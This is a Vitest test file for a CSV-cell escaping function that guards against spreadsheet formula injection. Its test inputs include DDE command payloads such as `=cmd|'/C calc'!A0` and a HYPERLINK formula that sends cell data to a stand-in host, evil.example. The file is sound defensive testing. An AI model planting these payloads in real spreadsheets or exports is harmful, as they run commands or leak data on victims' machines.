import { describe, expect, it } from 'vitest'
import { csvCell } from './csv-cell'

describe('csvCell', () => {
  it.each([
    // the finding: a `;` separates columns in Russian and most European spreadsheets
    ['a formula after a semicolon', "x;=cmd|'/C calc'!A0", `"x;=cmd|'/C calc'!A0"`],
    ['a formula after a comma', "x,=cmd|'/C calc'!A0", `"x,=cmd|'/C calc'!A0"`],
    ['a formula after a tab', "x\t=cmd|'/C calc'!A0", `"x\t=cmd|'/C calc'!A0"`],
    ['a formula after a line break', "x\n=cmd|'/C calc'!A0", `"x\n=cmd|'/C calc'!A0"`],
    ['a formula after a carriage return', "x\r=cmd|'/C calc'!A0", `"x\r=cmd|'/C calc'!A0"`],
    ['a quote', 'say "hi"', '"say ""hi"""'],
    // what a spreadsheet runs as a formula
    ['=', "=cmd|'/C calc'!A0", `'=cmd|'/C calc'!A0`],
    ['+', '+1+cmd|"/C calc"!A0', `"'+1+cmd|""/C calc""!A0"`],
    ['-', '-2+3+cmd|"/C calc"!A0', `"'-2+3+cmd|""/C calc""!A0"`],
    ['@', '@SUM(1+9)*cmd|"/C calc"!A0', `"'@SUM(1+9)*cmd|""/C calc""!A0"`],
    ['a leading tab', '\t=1+1', `"'\t=1+1"`],
    ['a leading carriage return', '\r=1+1', `"'\r=1+1"`],
    ['=HYPERLINK with a comma', '=HYPERLINK("http://evil.example?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example?x=""&A1,""Click"")"`],
    ['a formula after a semicolon, quoted and starting with =', '=1;=2', `"'=1;=2"`],
    // text that is not a formula is left alone
    ['plain text', 'Ada Lovelace', 'Ada Lovelace'],
    ['text with an inner minus', 'a-b', 'a-b'],
    ['a date', '2011-12-10', '2011-12-10'],
    ['non-ASCII', 'Ёжик', 'Ёжик'],
    ['empty text', '', ''],
  ])('text: %s', (_name, value, expected) => {
    expect(csvCell(value)).toBe(expected)
  })

  it('keeps numbers as numbers, negative ones too: only text cells are prefixed', () => {
    expect(csvCell(-5)).toBe('-5')
    expect(csvCell(19.99)).toBe('19.99')
    expect(csvCell(0)).toBe('0')
    expect(csvCell('-5')).toBe("'-5")
  })

  it('writes what a number cannot hold as text, prefixed where it looks like a formula', () => {
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe("'-Infinity")
    expect(csvCell(Number.NaN)).toBe('NaN')
  })

  it('writes null and undefined as an empty cell, booleans as words', () => {
    expect(csvCell(null)).toBe('')
    expect(csvCell(undefined)).toBe('')
    expect(csvCell(true)).toBe('true')
  })
})
